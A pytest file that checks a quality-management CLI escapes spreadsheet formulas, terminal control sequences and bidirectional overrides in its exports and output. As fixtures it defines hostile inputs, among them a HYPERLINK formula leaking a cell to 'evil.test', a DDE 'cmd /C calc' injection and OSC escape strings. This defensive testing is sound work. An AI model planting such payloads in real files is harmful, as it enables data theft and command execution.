"""Text stays text: formulas in exports, escape sequences on the terminal, CSV line breaks.

A repository is untrusted input: its text must not run as a formula in the spreadsheet that
opens an export, nor steer the terminal that shows it; and what qms guards on export comes
back unchanged on import.
"""

from __future__ import annotations

import csv
import io
import json
import unicodedata
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from qms.cli.output import render_rows
from qms.format.tables import read_kpis

from .audit_helpers import audit_id, read_record, write

FORMULA = '=HYPERLINK("http://evil.test/?leak="&A1,"Click for details")'
AT_FORMULA = "@SUM(1+9)*cmd|' /C calc'!A0"
PLUS_TEXT = "+49 30 1234 (night line)"
OSC = "\x1b]0;pwned\x07"
CLEAR = "\x1b[2J"


def _replace(path: Path, old: str, new: str) -> None:
    """Replace one exact piece of a file (the test fails if it is not there)."""
    text = path.read_text(encoding="utf-8")
    assert text.count(old) == 1, f"{old!r} not once in {path}"
    path.write_text(text.replace(old, new), encoding="utf-8")


def _quoted(text: str) -> str:
    return json.dumps(text)  # a JSON string is a YAML double-quoted scalar


@pytest.fixture
def formula_repo(sample_repo: Path) -> Path:
    """The sample QMS with text a spreadsheet would run: a finding, an owner, a title."""
    record = sample_repo / "audits" / "records" / "2026" / "AUD-20261015-NJR-7F3A.yaml"
    _replace(record, "statement: Two of ten customers were not greeted within 30 seconds during "
             "the afternoon lunch-break gap.", f"statement: {_quoted(FORMULA)}")
    _replace(record, "owner: Store manager, Nanjing Road\n      due: 2026-11-15",
             f"owner: {_quoted(AT_FORMULA)}\n      due: 2026-11-15")
    standard = sample_repo / "standards" / "appearance" / "APP-002.yaml"
    # the sample writes texts in Chinese and English, and shows the English
    _replace(standard, "  en: Wear the name badge and keep grooming neat",
             f"  en: {_quoted(FORMULA)}")
    _replace(standard, "owner: HR and Training", f"owner: {_quoted(PLUS_TEXT)}")
    return sample_repo


def _csv(run: Callable[..., Any], repo: Path, *args: str) -> list[dict[str, str]]:
    result = run(*args, "--format", "csv", "-C", str(repo))
    assert result.exit_code == 0, result.output
    return list(csv.DictReader(io.StringIO(result.stdout)))


def _json(run: Callable[..., Any], repo: Path, *args: str) -> list[dict[str, Any]]:
    result = run(*args, "--format", "json", "-C", str(repo))
    assert result.exit_code == 0, result.output
    return list(json.loads(result.stdout))


def test_findings_csv_guards_formulas_with_a_quote(run, formula_repo: Path) -> None:
    rows = {r["id"]: r for r in _csv(run, formula_repo, "findings")}
    first = rows["AUD-20261015-NJR-7F3A-F1"]
    assert first["statement"] == "'" + FORMULA
    assert first["owner"] == "'" + AT_FORMULA
    [same] = [r for r in _json(run, formula_repo, "findings") if r["id"] == first["id"]]
    assert first["age_days"] == str(same["age_days"])  # numbers are not touched
    plain = rows["AUD-20261015-NJR-7F3A-F2"]["statement"]
    assert plain.startswith("Customers were charged")


def test_due_csv_guards_text_but_keeps_negative_numbers(run, formula_repo: Path) -> None:
    rows = _csv(run, formula_repo, "due")
    [review] = [r for r in rows if r["id"] == "APP-002"]
    assert review["what"] == "'" + FORMULA
    assert review["owner"] == "'" + PLUS_TEXT
    [same] = [r for r in _json(run, formula_repo, "due") if r["id"] == "APP-002"]
    assert same["days"] < 0
    assert review["days"] == str(same["days"])  # a negative number stays a number, unguarded


def _xlsx(run: Callable[..., Any], repo: Path, command: str) -> dict[str, dict[str, Any]]:
    """The rows of an exported workbook by id, as cells (value and type)."""
    output = repo.parent / f"{command}.xlsx"
    result = run(command, "--format", "xlsx", "-o", str(output), "-C", str(repo))
    assert result.exit_code == 0, result.output
    sheet = openpyxl.load_workbook(output).active
    header = [c.value for c in sheet[1]]
    return {row[header.index("id")].value: dict(zip(header, row, strict=True))
            for row in sheet.iter_rows(min_row=2)}


def test_findings_xlsx_writes_formula_text_as_text_cells(run, formula_repo: Path) -> None:
    row = _xlsx(run, formula_repo, "findings")["AUD-20261015-NJR-7F3A-F1"]
    for column, text in (("statement", FORMULA), ("owner", AT_FORMULA)):
        assert row[column].data_type == "s"
        assert row[column].value == text
    [same] = [r for r in _json(run, formula_repo, "findings") if r["id"] == row["id"].value]
    assert (row["age_days"].data_type, row["age_days"].value) == ("n", same["age_days"])


def test_due_xlsx_writes_formula_text_as_text_and_numbers_as_numbers(run, formula_repo) -> None:
    row = _xlsx(run, formula_repo, "due")["APP-002"]
    assert (row["what"].data_type, row["what"].value) == ("s", FORMULA)
    assert (row["owner"].data_type, row["owner"].value) == ("s", PLUS_TEXT)
    [same] = [r for r in _json(run, formula_repo, "due") if r["id"] == "APP-002"]
    assert same["days"] < 0
    assert (row["days"].data_type, row["days"].value) == ("n", same["days"])


QUESTIONS = ("question,result,note,grade,statement,evidence,owner,due\n"
             "Q1,conform,{note},,,,,\n"
             "Q2,nonconform,,minor,{statement},,,\n"
             "Q3,not-applicable,,,,,,\n")


def _start_with_answers(run: Callable[..., Any], repo: Path, text: str) -> Any:
    answers = write(repo.parent / "answers.csv", text)
    result = run("audit", "start", "CL-PREMISES", "--site", "S", "--auditor", "A",
                 "--answers", str(answers), "-C", str(repo))
    assert result.exit_code == 0, result.output
    return read_record(repo, audit_id(result.output))


def test_a_statement_exported_to_csv_imports_back_exactly(run, formula_repo: Path) -> None:
    # the finding's statement travels: findings CSV -> an answer file -> a new audit record
    exported = io.StringIO()
    writer = csv.writer(exported, lineterminator="\n")
    [first] = [r for r in _csv(run, formula_repo, "findings")
               if r["id"] == "AUD-20261015-NJR-7F3A-F1"]
    writer.writerow(["question", "result", "note", "grade", "statement", "evidence"])
    writer.writerow(["Q1", "conform", first["owner"], "", "", ""])
    writer.writerow(["Q2", "nonconform", "'-3 of 30 tickets wrong", "minor", first["statement"],
                     ""])
    writer.writerow(["Q3", "not-applicable", "'it's closed", "", "", ""])
    record = _start_with_answers(run, formula_repo, exported.getvalue())
    assert [a.get("note") for a in record["answers"]] == [
        AT_FORMULA, "-3 of 30 tickets wrong", "'it's closed"]  # a quote before text stays
    assert [f["statement"] for f in record["findings"]] == [FORMULA]


def test_audit_sheet_keeps_formula_text_as_text_and_imports_it_back(run, sample_repo) -> None:
    checklist = sample_repo / "audits" / "checklists" / "CL-PREMISES.yaml"
    _replace(checklist, "  en: Store premises and display check", f"  en: {_quoted(FORMULA)}")
    _replace(checklist, "en: Are floors, mirrors, counters and the entrance clean, all lights "
             "working, and the cleanliness rounds signed?", f"en: {_quoted(AT_FORMULA)}")
    output = sample_repo.parent / "answers.xlsx"
    result = run("audit", "sheet", "CL-PREMISES", "-o", str(output), "-C", str(sample_repo))
    assert result.exit_code == 0, result.output
    book = openpyxl.load_workbook(output)
    ask, title = book["Answers"]["C2"], book["qms"]["B4"]
    assert (ask.data_type, ask.value) == ("s", AT_FORMULA)
    assert (title.data_type, title.value) == ("s", FORMULA)
    sheet = book["Answers"]
    notes = {2: FORMULA, 3: "-3 of 30 tickets wrong", 4: "'" + PLUS_TEXT}  # the last as pasted
    for row, note in notes.items():
        sheet[f"F{row}"] = "conform"
        sheet[f"G{row}"] = note
        sheet[f"G{row}"].data_type = "s"  # as a spreadsheet stores typed text
    book.save(output)
    imported = run("audit", "import", str(output), "--site", "S", "--auditor", "A",
                   "-C", str(sample_repo))
    assert imported.exit_code == 0, imported.output
    record = read_record(sample_repo, audit_id(imported.output))
    assert [a["note"] for a in record["answers"]] == [FORMULA, "-3 of 30 tickets wrong",
                                                      PLUS_TEXT]


# ------------------------------------------------------------------ terminal escapes


@pytest.fixture
def escape_repo(sample_repo: Path) -> Path:
    """The sample QMS with a window-title sequence and a screen clear in a standard's title."""
    standard = sample_repo / "standards" / "appearance" / "APP-002.yaml"
    _replace(standard, "  en: Wear the name badge and keep grooming neat",
             f"  en: {_quoted('Wear the badge' + OSC + CLEAR)}")
    return sample_repo


def test_show_and_list_print_control_characters_escaped(run, escape_repo: Path) -> None:
    shown = run("show", "APP-002", "-C", str(escape_repo))
    listed = run("list", "standards", "-C", str(escape_repo))
    for result in (shown, listed):
        assert result.exit_code == 0, result.output
        assert "\x1b" not in result.output and "\x07" not in result.output
        assert r"Wear the badge\x1b]0;pwned\x07\x1b[2J" in result.output
    assert shown.output.splitlines()[0] == r"APP-002  Wear the badge\x1b]0;pwned\x07\x1b[2J"


def test_a_workbook_shows_control_characters_it_cannot_hold(run, escape_repo: Path) -> None:
    row = _xlsx(run, escape_repo, "due")["APP-002"]  # XML 1.0 has no ESC or BEL
    assert row["what"].value == r"Wear the badge\x1b]0;pwned\x07\x1b[2J"


def test_capa_and_the_audit_session_print_control_characters_escaped(run, sample_repo) -> None:
    record = sample_repo / "audits" / "records" / "2026" / "AUD-20261015-NJR-7F3A.yaml"
    _replace(record, "containment: From 16 Oct a named greeter covers the entrance zone from "
             "13:30 to 17:00.", f"containment: {_quoted('Greeter' + OSC)}")
    premises = sample_repo / "standards" / "premises" / "PRM-001.yaml"
    title = "  en: Keep the sales floor clean, bright and tidy"  # the English title shown
    _replace(premises, title, f"  en: {_quoted('Clean' + CLEAR)}")
    capa = run("capa", "AUD-20261015-NJR-7F3A-F1", "-C", str(sample_repo))
    session = run("audit", "start", "CL-PREMISES", "--site", "S", "--auditor", "A",
                  "-C", str(sample_repo), input="")
    assert capa.exit_code == 0, capa.output
    assert r"containment   Greeter\x1b]0;pwned\x07" in capa.output
    assert r"Standard PRM-001: Clean\x1b[2J" in session.output
    for result in (capa, session):
        assert "\x1b" not in result.output and "\x07" not in result.output


def test_check_messages_show_names_and_values_escaped(run, sample_repo: Path) -> None:
    folder = sample_repo / "standards" / "appearance"
    (folder / f"copy{OSC}.yaml").write_bytes((folder / "APP-001.yaml").read_bytes())
    kpis = sample_repo / "audits" / "measurements" / "kpi-2026.csv"
    with kpis.open("a", encoding="utf-8") as table:
        table.write(f"2026-10-01,PRES-002,score{CLEAR},88,Nanjing Road store,\n")
    result = run("check", str(sample_repo))
    assert result.exit_code == 1
    assert "\x1b" not in result.stdout and "\x07" not in result.stdout
    [copy] = [line for line in result.stdout.splitlines() if "[duplicate-id]" in line]
    assert copy.startswith(r"standards/appearance/copy\x1b]0;pwned\x07.yaml:1: error")
    assert r"PRES-002 has no measure 'score\x1b[2J'" in result.stdout


# ------------------------------------------------------------------ one CSV reader


def test_answer_cells_with_line_breaks_and_u2028_import_exactly(run, sample_repo: Path) -> None:
    note = "Floors clean.\nMirror at the fitting rooms\r\nsmudged"
    statement = "Ticket\u2028mismatch\u2029on three items\x85(see photo)"
    text = QUESTIONS.format(note='"' + note + '"', statement=statement)
    record = _start_with_answers(run, sample_repo, text)
    assert record["answers"][0]["note"] == note
    assert [f["statement"] for f in record["findings"]] == [statement]


def test_a_record_over_several_lines_is_reported_at_its_first_line(run, sample_repo) -> None:
    text = ('question,result,note,grade,statement,evidence\n'
            'Q1,conform,"two\nlines\nof note",,,\n'
            'Q9,conform,,,,\n')
    write(sample_repo.parent / "answers.csv", text)
    result = run("audit", "start", "CL-PREMISES", "--site", "S", "--auditor", "A",
                 "--answers", str(sample_repo.parent / "answers.csv"), "-C", str(sample_repo))
    assert result.exit_code == 1
    assert "row 5, column 'question': 'Q9' is not a question of CL-PREMISES" in result.output


def test_kpi_table_cells_keep_line_breaks_and_lines_stay_right(tmp_path: Path) -> None:
    path = tmp_path / "kpi.csv"
    path.write_bytes(
        "\ufeffdate,standard,measure,value,site,note\r\n"
        '2026-09-26,PRES-002,score,-2.5,Nanjing Road,"late\r\ntest\u2028u2028"\r\n'
        "2026-09-27,PRES-002,score,many,Nanjing Road,\r\n".encode())
    readings, issues = read_kpis(path, "kpi.csv")
    [reading] = readings
    assert (reading.line, reading.value, reading.note) == (2, -2.5, "late\r\ntest\u2028u2028")
    assert [(i.line, i.message) for i in issues] == [
        (4, "column 'value': 'many' is not a number")]


# ------------------------------------------------------------------ terminal widths


def _columns_of(text: str) -> int:
    """Terminal columns of text, counted independently: wide 2, combining 0, others 1."""
    return sum(0 if unicodedata.combining(c) else
               2 if unicodedata.east_asian_width(c) in ("W", "F") else 1 for c in text)


def test_a_table_with_chinese_text_aligns_and_fits_the_terminal(run, sample_repo: Path,
                                                                monkeypatch) -> None:
    checklist = sample_repo / "audits" / "checklists" / "CL-PREMISES.yaml"
    title = "门店环境与陈列检查：地面、镜子、柜台、入口、灯光与价签全部核对一遍"
    _replace(checklist, "  en: Store premises and display check", f"  en: {title}")
    monkeypatch.setenv("COLUMNS", "60")
    result = run("list", "checklists", "-C", str(sample_repo))
    assert result.exit_code == 0, result.output
    lines = result.stdout.splitlines()
    assert max(_columns_of(line) for line in lines) <= 60
    header = lines[0]
    method_at = _columns_of(header[: header.index("METHOD")])
    count_at = _columns_of(header[: header.index("QUESTIONS")])
    rows = _json(run, sample_repo, "list", "checklists")
    assert len(lines) == len(rows) + 1
    for row in rows:
        [line] = [line for line in lines if line.startswith(row["id"] + " ")]
        assert _columns_of(line[: line.index("  " + row["method"]) + 2]) == method_at, line
        assert _columns_of(line[: line.rindex(" " + str(row["questions"])) + 1]) == count_at
    [premises] = [line for line in lines if line.startswith("CL-PREMISES")]
    assert "…" in premises and title[:5] in premises


def test_combining_marks_take_no_column_and_wide_text_is_cut_by_columns() -> None:
    rows = [{"name": "Cafe\u0301 au lait", "n": 1}, {"name": "咖啡加牛奶和一点糖", "n": 22},
            {"name": "plain", "n": 333}]
    lines = render_rows(rows, ("name", "n"), "table", width=16).splitlines()
    number_at = {_columns_of(line[: line.rindex(" ") + 1]) for line in lines}
    assert len(number_at) == 1  # every row's number starts in the header's N column
    assert max(_columns_of(line) for line in lines) == 16
    assert lines[1].startswith("Cafe\u0301 au la…")  # the accent takes no column
    assert lines[2].startswith("咖啡加牛奶…")  # ten columns and the ellipsis, not 10 characters


def test_bidirectional_overrides_are_shown_escaped(run, sample_repo: Path) -> None:
    # "Trojan Source": U+202E makes a terminal show the rest of the line reversed.
    premises = sample_repo / "standards" / "premises" / "PRM-001.yaml"
    title = "  en: Keep the sales floor clean, bright and tidy"  # the English title shown
    _replace(premises, title, f"  en: {_quoted('Clean ' + chr(0x202E) + 'gniniD')}")
    shown = run("show", "PRM-001", "-C", str(sample_repo))
    assert shown.exit_code == 0, shown.output
    assert chr(0x202E) not in shown.output
    assert r"Clean \u202egniniD" in shown.output


def test_build_warnings_quoting_repository_text_are_shown_escaped(capsys) -> None:
    from qms.cli.manual import report
    from qms.manual.build import BuildResult

    result = BuildResult(Path("build/html"), pages=1, sphinx_ran=True,
                         warnings=["index.rst:3: WARNING: x\x1b]0;pwned\x07"])
    assert report(result, strict=True)  # a warning fails a strict build
    err = capsys.readouterr().err
    assert "\x1b" not in err and r"x\x1b]0;pwned\x07" in err
